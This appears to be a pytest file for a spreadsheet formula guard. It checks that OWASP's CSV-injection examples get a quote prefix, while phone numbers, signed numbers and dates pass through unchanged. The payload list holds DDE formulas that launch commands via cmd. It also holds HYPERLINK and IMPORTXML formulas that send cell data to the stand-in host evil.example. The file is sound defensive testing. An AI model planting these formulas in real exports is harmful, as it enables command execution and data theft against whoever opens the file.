"""Issue 20, goal 6: the formula guard neutralises what a spreadsheet would run (OWASP's CSV-injection
examples) and leaves numbers, phone numbers and dates exactly as given, for the tools that read the file."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from members.csv_cells import safe_cell, safe_cells

# From OWASP's "CSV Injection" page (and its cheat sheet's list of leading characters).
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1&A2, "Error: please click for further information")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+2",
    "\r=1+2",
    "\n-3+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    "-1+1",
    "+1+1",
    "@x",
]
KEPT_AS_GIVEN = [
    "+354 858 1235",
    "+3548581235",
    "+44 (0)20 7946 0958",
    "+354-858-1235",
    "-5",
    "-1,5",
    "+2.25",
    "-12.5%",
    "-1.5e3",
    "2024-05-01",
    "01.05.2024",
    "858 1235",
    "Laura Loopy",
    "a=b",
    "https://portal.example.is/p/AQ-x_",
    "",
    "-",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_are_neutralised(payload):
    assert safe_cell(payload) == "'" + payload
    assert safe_cells([payload, "x"]) == ["'" + payload, "x"]


@pytest.mark.parametrize("value", KEPT_AS_GIVEN)
def test_numbers_phone_numbers_and_dates_come_back_exactly_as_given(value):
    assert safe_cell(value) == value
    written = io.StringIO()
    csv.writer(written).writerow(safe_cells([value]))
    assert next(csv.reader(io.StringIO(written.getvalue()))) == [value]


@given(st.sampled_from("+-"), st.text(min_size=1))
def test_a_signed_cell_with_any_letter_or_operator_is_neutralised(sign, rest):
    cell = sign + rest
    if re.fullmatch(r"[0-9]+(?:[.,][0-9]+)?[eE][+-]?[0-9]+", rest):
        return  # scientific notation ("-1.5e3"): a number
    if any(ch.isalpha() or ch in "+=@*|!&\"';:<>^~$#" for ch in rest):
        assert safe_cell(cell) == "'" + cell


@given(st.text())
def test_the_row_version_agrees_with_the_cell_version(cell):
    assert safe_cells([cell]) == [safe_cell(cell)]
